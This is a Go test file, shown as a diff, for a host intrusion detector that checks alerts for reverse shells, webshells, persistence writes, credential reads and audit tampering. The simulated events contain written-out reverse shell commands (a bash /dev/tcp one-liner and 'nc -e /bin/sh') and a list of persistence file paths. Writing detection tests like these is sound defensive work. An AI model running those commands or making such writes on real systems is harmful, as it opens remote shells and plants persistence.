@@ -1,0 +1,491 @@
+package detect
+
+import (
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/lineaged/lineaged/baseline"
+	"github.com/lineaged/lineaged/event"
+)
+
+// world builds events the way the graph enriches them: each process has
+// an entity id and an ancestry.
+type world struct {
+	t    int64
+	seq  int
+	en   *Engine
+	outs []*event.Event
+}
+
+type proc struct {
+	pid  int
+	exe  string
+	args []string
+	uid  string
+	anc  []event.ProcRef
+}
+
+func (p proc) ref() event.ProcRef {
+	return event.ProcRef{EntityID: "e" + strconv.Itoa(p.pid), PID: p.pid, Executable: p.exe, Args: p.args, UserID: p.uid}
+}
+
+// child is a process started by p.
+func (p proc) child(pid int, exe string, args ...string) proc {
+	return proc{pid: pid, exe: exe, args: args, uid: p.uid, anc: append([]event.ProcRef{p.ref()}, p.anc...)}
+}
+
+var (
+	initP = proc{pid: 1, exe: "/usr/lib/systemd/systemd", uid: "0"}
+	sshd  = initP.child(500, "/usr/sbin/sshd")
+	login = sshd.child(600, "/usr/bin/bash", "-bash")
+)
+
+func newWorld(cfg Config) *world {
+	return &world{t: time.Date(2026, 11, 27, 8, 0, 0, 0, time.UTC).UnixMilli(), en: New(cfg)}
+}
+
+func (w *world) ev(p proc, action string, mod func(e *event.Event)) *event.Event {
+	w.t += 10
+	w.seq++
+	e := &event.Event{ID: "ev-" + strconv.Itoa(w.seq), TimeMsec: w.t, Kind: event.KindEvent, Action: action, Outcome: "success",
+		Module: "auditd", Host: "h1",
+		Process: event.Process{EntityID: "e" + strconv.Itoa(p.pid), PID: p.pid, Executable: p.exe, Name: base(p.exe), Args: p.args},
+		User:    event.User{ID: p.uid}, Ancestry: p.anc}
+	if len(p.anc) > 0 {
+		e.Parent = &e.Ancestry[0]
+	}
+	if mod != nil {
+		mod(e)
+	}
+	w.en.Observe(e, w.emit)
+	return e
+}
+
+func (w *world) emit(a *event.Event) {
+	w.seq++
+	a.ID = "al-" + strconv.Itoa(w.seq)
+	w.outs = append(w.outs, a)
+}
+
+func (w *world) exec(p proc) *event.Event { return w.ev(p, "executed", nil) }
+
+func (w *world) alerts(rule string) []*event.Event {
+	var out []*event.Event
+	for _, a := range w.outs {
+		if a.Kind == event.KindAlert && (rule == "" || a.Alert.RuleID == rule) {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+func (w *world) only(t *testing.T, rule string) *event.Event {
+	t.Helper()
+	got := w.alerts("")
+	if len(got) != 1 || got[0].Alert.RuleID != rule {
+		t.Fatalf("want exactly one %s alert, got %s", rule, ruleIDs(got))
+	}
+	return got[0]
+}
+
+func ruleIDs(as []*event.Event) string {
+	var ids []string
+	for _, a := range as {
+		ids = append(ids, a.Alert.RuleID+"("+a.Process.Executable+")")
+	}
+	return "[" + strings.Join(ids, " ") + "]"
+}
+
+func (w *world) none(t *testing.T) {
+	t.Helper()
+	if got := w.alerts(""); len(got) != 0 {
+		t.Fatalf("want no alerts, got %s: %s", ruleIDs(got), got[0].Alert.Reason)
+	}
+}
+
+func connect(ip string, port int) func(*event.Event) {
+	return func(e *event.Event) {
+		e.Category = "network"
+		e.Network = &event.Network{Family: "ipv4", Direction: "egress", Transport: "tcp"}
+		e.Dest = &event.Endpoint{IP: ip, Port: port}
+	}
+}
+
+func bind(port int) func(*event.Event) {
+	return func(e *event.Event) {
+		e.Network = &event.Network{Family: "ipv4", Direction: "listening"}
+		e.Source = &event.Endpoint{IP: "127.0.0.1", Port: port}
+	}
+}
+
+func file(path, op string) func(*event.Event) {
+	return func(e *event.Event) {
+		e.Category = "file"
+		e.File = &event.File{Path: path, Operation: op}
+	}
+}
+
+func TestReverseShellConnectingShell(t *testing.T) {
+	w := newWorld(Config{})
+	bash := login.child(700, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/47102 0>&1")
+	w.exec(bash)
+	c := w.ev(bash, "connected-to", connect("127.0.0.1", 47102))
+	a := w.only(t, "lineaged.reverse-shell")
+	if a.Alert.Severity != 4 || a.Alert.Techniques[0] != "T1059.004" || a.Process.Executable != "/usr/bin/bash" ||
+		a.Alert.Evidence[0].ID != c.ID || len(a.Ancestry) != 3 || a.Alert.Key != "connect|/usr/bin/bash|loopback:ephemeral" {
+		t.Fatalf("alert %+v %+v", a.Alert, a.Process)
+	}
+	if !strings.Contains(a.Alert.Reason, "127.0.0.1:47102") || !strings.Contains(a.Alert.Reason, "no baseline") {
+		t.Errorf("reason %q", a.Alert.Reason)
+	}
+	// DNS from a shell (bash resolving /dev/tcp/host) is not a reverse shell.
+	w2 := newWorld(Config{})
+	w2.ev(bash, "connected-to", connect("127.0.0.53", 53))
+	w2.none(t)
+}
+
+func TestReverseShellAfterConnect(t *testing.T) {
+	// nc -e /bin/sh: nc connects, then the same process becomes sh.
+	w := newWorld(Config{})
+	nc := login.child(701, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.9", "4444")
+	w.exec(nc)
+	w.ev(nc, "connected-to", connect("10.0.0.9", 4444))
+	sh := nc
+	sh.exe, sh.args = "/usr/bin/dash", []string{"/bin/sh"}
+	w.exec(sh)
+	w.only(t, "lineaged.reverse-shell")
+
+	// python connects and pty.spawn()s a shell: the parent connected.
+	w = newWorld(Config{})
+	py := login.child(702, "/usr/bin/python3.11", "python3", "-c", "import socket,pty...")
+	w.exec(py)
+	w.ev(py, "connected-to", connect("10.0.0.9", 4444))
+	w.exec(py.child(703, "/usr/bin/dash", "/bin/sh"))
+	a := w.only(t, "lineaged.reverse-shell")
+	if len(a.Alert.Evidence) < 2 || !strings.HasPrefix(a.Alert.Evidence[1].Summary, "connected-to 10.0.0.9:4444") {
+		t.Errorf("the connect must be evidence: %+v", a.Alert.Evidence)
+	}
+
+	// curl connects, the shell that ran it is not a reverse shell.
+	w = newWorld(Config{})
+	curl := login.child(704, "/usr/bin/curl", "curl", "https://example.com")
+	w.ev(curl, "connected-to", connect("93.184.216.34", 443))
+	w.exec(login.child(705, "/usr/bin/dash", "sh", "-c", "true"))
+	w.none(t)
+}
+
+func TestWebshell(t *testing.T) {
+	w := newWorld(Config{})
+	srv := initP.child(800, "/usr/bin/python3.11", "python3", "websrv.py")
+	w.exec(srv)
+	b := w.ev(srv, "bound-socket", bind(47101))
+	w.exec(srv.child(801, "/usr/bin/dash", "/bin/sh", "-c", "id"))
+	a := w.only(t, "lineaged.webshell")
+	if len(a.Alert.Evidence) < 2 || a.Alert.Evidence[1].ID != b.ID || !strings.Contains(a.Alert.Reason, "127.0.0.1:47101") {
+		t.Fatalf("evidence %+v reason %q", a.Alert.Evidence, a.Alert.Reason)
+	}
+
+	// A known server by name, no bind seen.
+	w = newWorld(Config{})
+	nginx := initP.child(810, "/usr/sbin/nginx", "nginx")
+	fpm := nginx.child(811, "/usr/sbin/php-fpm8.2", "php-fpm")
+	w.exec(fpm.child(812, "/usr/bin/dash", "sh", "-c", "whoami"))
+	w.only(t, "lineaged.webshell")
+
+	// A login below the listener is not the service's doing.
+	w = newWorld(Config{})
+	w.ev(sshd, "bound-socket", bind(22))
+	w.exec(login.child(820, "/usr/bin/dash", "sh"))
+	w.none(t)
+
+	// The baseline says this service runs this routinely.
+	b0 := baseline.New()
+	child := srv.child(830, "/usr/bin/dash", "/bin/sh", "-c", "date")
+	key := baseline.EventKeys(&event.Event{Kind: event.KindEvent, Action: "executed", Process: event.Process{Executable: child.exe}, Ancestry: child.anc})[0]
+	for range 10 {
+		b0.ObserveKey(key, time.Now())
+	}
+	w = newWorld(Config{Baseline: b0})
+	w.ev(srv, "bound-socket", bind(47101))
+	w.exec(child)
+	if got := w.alerts("lineaged.webshell"); len(got) != 0 {
+		t.Fatalf("a common edge must not alert: %s", ruleIDs(got))
+	}
+}
+
+func TestExecFromTmpAndDeleted(t *testing.T) {
+	w := newWorld(Config{})
+	w.exec(login.child(900, "/tmp/lineaged-scn.x/payload", "./payload"))
+	a := w.only(t, "lineaged.exec-from-tmp")
+	if a.Alert.Techniques[0] != "T1105" || !strings.HasPrefix(a.Alert.Key, "exec-edge|") {
+		t.Fatalf("%+v", a.Alert)
+	}
+	w = newWorld(Config{})
+	w.exec(login.child(901, "/memfd:payload (deleted)", "payload"))
+	w.only(t, "lineaged.exec-deleted")
+	w = newWorld(Config{})
+	w.exec(login.child(902, "/usr/bin/true", "true"))
+	w.none(t)
+}
+
+func TestSetuidRoot(t *testing.T) {
+	w := newWorld(Config{})
+	p := login.child(1000, "/tmp/x/suid-id", "suid-id")
+	p.uid = "65534"
+	w.ev(p, "executed", func(e *event.Event) { e.User.EffectiveID = "0" })
+	if a := w.alerts("lineaged.setuid-root"); len(a) != 1 || a[0].Alert.Severity != 4 {
+		t.Fatalf("got %s", ruleIDs(w.alerts("")))
+	}
+	w = newWorld(Config{})
+	s := login.child(1001, "/usr/bin/sudo", "sudo", "id")
+	s.uid = "1000"
+	w.ev(s, "executed", func(e *event.Event) { e.User.EffectiveID = "0" })
+	w.none(t)
+}
+
+func TestPersistenceWrites(t *testing.T) {
+	cases := []struct{ path, op, tech string }{
+		{"/etc/cron.d/lineaged-scn", "create", "T1053.003"},
+		{"/var/spool/cron/crontabs/root", "rename", "T1053.003"},
+		{"/etc/systemd/system/evil.service", "create", "T1543.002"},
+		{"/root/.ssh/authorized_keys", "write", "T1098.004"},
+		{"/home/ann/.ssh/authorized_keys", "write", "T1098.004"},
+		{"/etc/ld.so.preload", "write", "T1574.006"},
+		{"/etc/sudoers.d/x", "create", "T1548.003"},
+		{"/etc/passwd", "rename", "T1136.001"},
+		{"/etc/profile.d/x.sh", "create", "T1546.004"},
+		{"/root/.bashrc", "write", "T1546.004"},
+		{"/etc/rc.local", "write", "T1037.004"},
+		{"/etc/init.d/evil", "create", "T1037.004"},
+	}
+	for _, c := range cases {
+		w := newWorld(Config{})
+		w.ev(login.child(1100, "/usr/bin/tee", "tee"), "wrote-to-file", file(c.path, c.op))
+		a := w.only(t, "lineaged.persistence-write")
+		if len(a.Alert.Techniques) != 1 || a.Alert.Techniques[0] != c.tech || a.File.Path != c.path {
+			t.Errorf("%s: techniques %v", c.path, a.Alert.Techniques)
+		}
+	}
+	for _, p := range []string{"/etc/cron.d/x"} {
+		w := newWorld(Config{})
+		w.ev(login.child(1101, "/usr/bin/cat", "cat"), "opened-file", file(p, "read"))
+		w.ev(login.child(1102, "/usr/bin/tee", "tee"), "wrote-to-file", file("/etc/hosts", "write"))
+		w.none(t)
+	}
+}
+
+func TestPackageManagerSummary(t *testing.T) {
+	b := baseline.New()
+	w := newWorld(Config{Baseline: b})
+	dpkg := login.child(1200, "/usr/bin/dpkg", "dpkg", "-i", "x.deb")
+	w.exec(dpkg)
+	post := dpkg.child(1201, "/usr/bin/dash", "/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure")
+	w.exec(post)
+	w.ev(post.child(1202, "/usr/bin/systemctl", "systemctl", "daemon-reload"), "executed", nil)
+	w.ev(dpkg, "wrote-to-file", file("/lib/systemd/system/x.service", "create"))
+	if got := w.alerts(""); len(got) != 0 {
+		t.Fatalf("patch day must not alert per event: %s", ruleIDs(got))
+	}
+	w.ev(dpkg, "exited", nil)
+	a := w.only(t, "lineaged.package-manager")
+	if a.Process.Executable != "/usr/bin/dpkg" || a.Alert.Count != 5 || !strings.Contains(a.Alert.Reason, "dpkg -i x.deb") ||
+		len(a.Alert.Evidence) != 5 || !strings.HasPrefix(a.Alert.Evidence[0].Summary, "executed dpkg -i x.deb") {
+		t.Fatalf("summary %+v %q", a.Process, a.Alert.Reason)
+	}
+	if b.Len() == 0 {
+		t.Fatal("what ran below the package manager must be learned")
+	}
+	// A detection names it: still alerted below dpkg.
+	w = newWorld(Config{Baseline: baseline.New()})
+	w.exec(dpkg)
+	w.ev(dpkg.child(1203, "/usr/bin/bash", "bash"), "connected-to", connect("10.1.1.1", 4444))
+	if got := w.alerts("lineaged.reverse-shell"); len(got) != 1 {
+		t.Fatalf("a detection below a package manager must alert: %s", ruleIDs(w.alerts("")))
+	}
+}
+
+func TestCredentialRead(t *testing.T) {
+	w := newWorld(Config{})
+	w.ev(login.child(1300, "/usr/bin/cat", "cat", "/etc/shadow"), "opened-file", file("/etc/shadow", "read"))
+	w.only(t, "lineaged.credential-read")
+	w = newWorld(Config{})
+	w.ev(login.child(1301, "/usr/sbin/unix_chkpwd", "unix_chkpwd"), "opened-file", file("/etc/shadow", "read"))
+	w.none(t)
+	b := baseline.New()
+	b.ObserveFile("/usr/bin/backup-tool", "/etc/shadow", "read", time.Now())
+	w = newWorld(Config{Baseline: b})
+	w.ev(login.child(1302, "/usr/bin/backup-tool", "backup-tool"), "opened-file", file("/etc/shadow", "read"))
+	if got := w.alerts("lineaged.credential-read"); len(got) != 0 {
+		t.Fatal("a reader the baseline knows must not alert")
+	}
+}
+
+func TestAuditTamper(t *testing.T) {
+	rm := func(e *event.Event) {
+		e.Category = "configuration"
+		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "remove_rule"}}}
+	}
+	w := newWorld(Config{})
+	w.ev(login.child(1400, "/usr/sbin/auditctl", "auditctl", "-W", "/x"), "changed-audit-configuration", rm)
+	w.only(t, "lineaged.audit-tamper")
+	w = newWorld(Config{OwnPID: 1401})
+	w.ev(initP.child(1401, "/usr/sbin/lineaged-renamed", "lineaged", "run"), "changed-audit-configuration", rm)
+	w.ev(initP.child(1402, "/usr/sbin/lineaged", "lineaged", "run"), "changed-audit-configuration", rm)
+	w.none(t)
+	w = newWorld(Config{})
+	w.ev(login.child(1403, "/usr/sbin/auditctl", "auditctl", "-e", "0"), "changed-audit-configuration", func(e *event.Event) {
+		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "set"}, {Key: "audit_enabled", Value: "0"}}}
+	})
+	w.only(t, "lineaged.audit-tamper")
+	w = newWorld(Config{})
+	w.ev(login.child(1404, "/usr/bin/truncate", "truncate", "-s0", "/var/log/audit/audit.log"), "wrote-to-file", file("/var/log/audit/audit.log", "write"))
+	w.only(t, "lineaged.audit-tamper")
+	w = newWorld(Config{})
+	w.ev(login.child(1405, "/usr/bin/bash", "bash"), "wrote-to-file", func(e *event.Event) {
+		file("/var/log/auth.log", "write")(e)
+		e.Audit = &event.Audit{Syscall: "openat", Data: []event.KV{{Key: "a2", Value: "241"}}} // O_WRONLY|O_CREAT|O_TRUNC
+	})
+	w.only(t, "lineaged.audit-tamper")
+	w = newWorld(Config{})
+	w.ev(initP.child(1406, "/usr/sbin/logrotate", "logrotate"), "deleted", file("/var/log/audit/audit.log.4", "delete"))
+	w.ev(initP.child(1407, "/usr/sbin/rsyslogd", "rsyslogd"), "wrote-to-file", file("/var/log/syslog", "write"))
+	w.none(t)
+}
+
+func TestModuleLoadAndMasquerade(t *testing.T) {
+	w := newWorld(Config{})
+	w.ev(login.child(1500, "/usr/bin/kmod", "insmod", "/tmp/x.ko"), "loaded-kernel-module", file("lineaged_rootkit", "module"))
+	a := w.only(t, "lineaged.module-load")
+	if !strings.Contains(a.Alert.Reason, "lineaged_rootkit") {
+		t.Fatal(a.Alert.Reason)
+	}
+	w = newWorld(Config{})
+	w.exec(login.child(1501, "/usr/bin/sleep", "[kworker/0:2]", "1"))
+	w.only(t, "lineaged.masquerade")
+	w = newWorld(Config{})
+	w.exec(login.child(1502, "/srv/x/sshd", "./sshd"))
+	w.only(t, "lineaged.masquerade")
+	w = newWorld(Config{})
+	w.exec(initP.child(1503, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D"))
+	w.exec(login.child(1504, "/usr/bin/python3.11", "python3", "x.py"))
+	w.none(t)
+}
+
+func TestNewListenerAndNovelty(t *testing.T) {
+	b := baseline.New()
+	srv := initP.child(1600, "/usr/bin/python3.11", "python3", "-m", "http.server")
+	for range 5 {
+		b.ObserveListen(srv.exe, 18282, time.Now())
+	}
+	w := newWorld(Config{Baseline: b})
+	w.ev(srv, "bound-socket", bind(18282))
+	w.none(t)
+	w.ev(srv, "bound-socket", bind(8931))
+	a := w.only(t, "lineaged.new-listener")
+	if a.Alert.Key != "listen|/usr/bin/python<ver>|8931" || a.Alert.Severity != 2 || len(a.Alert.Novel) != 1 {
+		t.Fatalf("%+v", a.Alert)
+	}
+	// While learning the same is learned, not alerted.
+	w = newWorld(Config{Baseline: baseline.New(), Learning: true})
+	w.ev(srv, "bound-socket", bind(8931))
+	w.none(t)
+
+	// Novelty: a program the baseline never saw, once; then folded.
+	w = newWorld(Config{Baseline: b})
+	p := login.child(1601, "/usr/bin/nmap", "nmap", "10.0.0.0/24")
+	w.exec(p)
+	a = w.only(t, "lineaged.novel")
+	if a.Alert.Severity != 1 || len(a.Alert.Novel) == 0 || !strings.Contains(a.Alert.Reason, "new against the baseline") {
+		t.Fatalf("%+v", a.Alert)
+	}
+	w.exec(p)
+	w.en.Flush(w.emit)
+	if len(w.outs) != 2 || w.outs[1].Kind != event.KindEvent || w.outs[1].Action != "alert-repeated" || w.outs[1].Alert.Count != 1 ||
+		w.outs[1].Alert.Evidence[0].ID != a.ID {
+		t.Fatalf("a repeat must be folded and reported once with its count: %+v", w.outs)
+	}
+}
+
+func TestLearningIsNotPoisoning(t *testing.T) {
+	b := baseline.New()
+	w := newWorld(Config{Baseline: b, Learning: true})
+	w.exec(login.child(1700, "/usr/bin/id", "id"))
+	bash := login.child(1701, "/usr/bin/bash", "bash")
+	w.ev(bash, "connected-to", connect("10.0.0.9", 4444))
+	w.only(t, "lineaged.reverse-shell")
+	if _, ok := b.Lookup("connect|/usr/bin/bash|private:4444"); ok {
+		t.Fatal("what a detection named while learning must not be learned")
+	}
+	if b.Status(baseline.UserExeKey("0", "/usr/bin/id"), baseline.RareRule{}) == baseline.Novel {
+		t.Fatal("benign activity must be learned")
+	}
+	st := w.en.Stats()
+	if st.Withheld == 0 || st.Learned == 0 {
+		t.Fatalf("stats %+v", st)
+	}
+}
+
+func TestLearningWindowEnds(t *testing.T) {
+	b := baseline.New()
+	w := newWorld(Config{Baseline: b, Learning: true})
+	w.en.cfg.LearnUntilMsec = w.t + 100
+	p := login.child(1800, "/usr/bin/nmap", "nmap")
+	w.exec(p)
+	w.none(t)
+	w.t += 1000
+	w.exec(login.child(1801, "/usr/bin/zmap", "zmap"))
+	if !w.en.LearningEnded() {
+		t.Fatal("learning must end at LearnUntilMsec")
+	}
+	w.only(t, "lineaged.novel")
+}
+
+func TestRateLimit(t *testing.T) {
+	w := newWorld(Config{RateLimit: 3, RateWindow: time.Minute})
+	for i := range 10 {
+		w.exec(login.child(1900+i, "/tmp/p"+strconv.Itoa(i), "p"))
+	}
+	if got := w.alerts("lineaged.exec-from-tmp"); len(got) != 3 {
+		t.Fatalf("want 3 alerts before the limit, got %d", len(got))
+	}
+	w.t += 61_000
+	w.exec(login.child(1999, "/usr/bin/true", "true"))
+	sup := w.alerts("lineaged.rate-limited")
+	if len(sup) != 1 || sup[0].Alert.Count != 7 {
+		t.Fatalf("want one rate-limited alert counting 7: %s", ruleIDs(w.alerts("")))
+	}
+	if w.en.Stats().RateLimited != 7 {
+		t.Fatalf("stats %+v", w.en.Stats())
+	}
+}
+
+func TestIgnoresOwnAndAlertEvents(t *testing.T) {
+	w := newWorld(Config{})
+	w.ev(login.child(2000, "/tmp/x", "x"), "executed", func(e *event.Event) { e.Module = "lineaged" })
+	w.ev(login.child(2001, "/tmp/x", "x"), "executed", func(e *event.Event) { e.Kind = event.KindAlert })
+	w.none(t)
+}
+
+// TestUnknownWriterWaits: a write whose writer is not known yet (fanotify
+// before the exec) waits; the same write with its writer replaces it, and
+// one that stays unknown is raised after the wait.
+func TestUnknownWriterWaits(t *testing.T) {
+	w := newWorld(Config{})
+	anon := proc{pid: 3000}
+	w.ev(anon, "modified-file", file("/etc/cron.d/x", "write"))
+	w.none(t)
+	w.ev(login.child(3000, "/usr/bin/cp", "cp"), "created", file("/etc/cron.d/x", "create"))
+	w.t += 5000
+	w.exec(login.child(3001, "/usr/bin/true", "true"))
+	w.en.Flush(w.emit)
+	if a := w.only(t, "lineaged.persistence-write"); a.Process.Executable != "/usr/bin/cp" {
+		t.Fatalf("the alert must name the writer: %+v", a.Process)
+	}
+	w = newWorld(Config{})
+	w.ev(anon, "modified-file", file("/etc/cron.d/y", "write"))
+	w.t += 2500
+	w.exec(login.child(3002, "/usr/bin/true", "true"))
+	w.only(t, "lineaged.persistence-write")
+}
